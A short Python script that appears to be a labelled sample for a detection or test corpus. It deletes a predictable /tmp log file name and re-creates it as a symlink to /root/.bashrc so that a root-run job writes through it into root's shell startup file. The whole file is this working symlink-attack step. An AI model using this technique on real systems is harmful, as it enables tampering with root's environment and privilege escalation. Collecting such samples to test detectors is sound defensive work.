# expect: files; pre-plants a predictable /tmp log name as a symlink to /root/.bashrc for a root job to write through
import os

predictable = "/tmp/backup-agent-debug.log"
victim = os.path.expanduser("~root") + "/.bashrc"
try:
    os.unlink(predictable)
except FileNotFoundError:
    pass
os.symlink(victim, predictable)
